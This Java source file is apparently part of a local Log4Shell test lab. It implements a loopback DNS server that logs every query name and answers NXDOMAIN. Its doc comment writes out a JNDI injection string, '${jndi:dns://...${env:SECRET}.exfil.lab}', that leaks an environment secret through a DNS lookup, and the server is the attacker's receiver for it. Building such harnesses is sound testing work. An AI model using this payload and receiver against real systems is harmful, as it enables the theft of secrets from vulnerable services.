import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.Locale;

/**
 * The attacker's name server for {@code ${jndi:dns://127.0.0.1:5353/${env:SECRET}.exfil.lab}}:
 * records the name of every query (an event whose detail is the name, lower-cased: the stolen
 * secret arrives as its first label) and answers NXDOMAIN, so the victim's lookup ends at once.
 */
final class ExfilDnsServer {
    private ExfilDnsServer() {}

    static void start(int port) throws IOException {
        String name = "dns:" + port;
        DatagramSocket socket =
                new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), port));
        Events.daemon(name, () -> {
            byte[] buf = new byte[512];
            while (true) {
                try {
                    DatagramPacket packet = new DatagramPacket(buf, buf.length);
                    socket.receive(packet);
                    byte[] query = new byte[packet.getLength()];
                    System.arraycopy(buf, 0, query, 0, query.length);
                    int[] end = new int[1];
                    String qname = qname(query, end);
                    if (qname == null) {
                        Events.emit(name, "garbage", query.length + "B");
                        continue;
                    }
                    Events.emit(name, "query", qname.toLowerCase(Locale.ROOT));
                    byte[] answer = nxdomain(query, end[0] + 4);
                    socket.send(new DatagramPacket(answer, answer.length, packet.getSocketAddress()));
                } catch (IOException e) {
                    Events.emit(name, "error", e);
                    Events.sleep(100);
                }
            }
        });
        Events.ready(name, socket.getLocalSocketAddress());
    }

    /** The question's name (RFC 1035 4.1.2); {@code end[0]} is set to the index after it. */
    private static String qname(byte[] msg, int[] end) {
        if (msg.length < 12) {
            return null;
        }
        StringBuilder name = new StringBuilder();
        int i = 12;
        while (i < msg.length) {
            int len = msg[i++] & 0xff;
            if (len == 0) {
                end[0] = i;
                return i + 4 <= msg.length ? name.toString() : null;
            }
            if (len > 63 || i + len > msg.length) {
                return null;
            }
            if (name.length() > 0) {
                name.append('.');
            }
            for (int k = 0; k < len; k++) {
                name.append((char) (msg[i + k] & 0xff));
            }
            i += len;
        }
        return null;
    }

    /** The query turned into its answer: QR and RA set, RCODE 3, the question only. */
    private static byte[] nxdomain(byte[] query, int questionEnd) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(query[0]);
        out.write(query[1]);
        out.write((query[2] & 0x79) | 0x80); // QR=1, keep opcode and RD, AA=0, TC=0
        out.write(0x83); // RA=1, RCODE=3 (NXDOMAIN)
        out.writeBytes(new byte[] {0, 1, 0, 0, 0, 0, 0, 0});
        out.write(query, 12, questionEnd - 12);
        return out.toByteArray();
    }
}
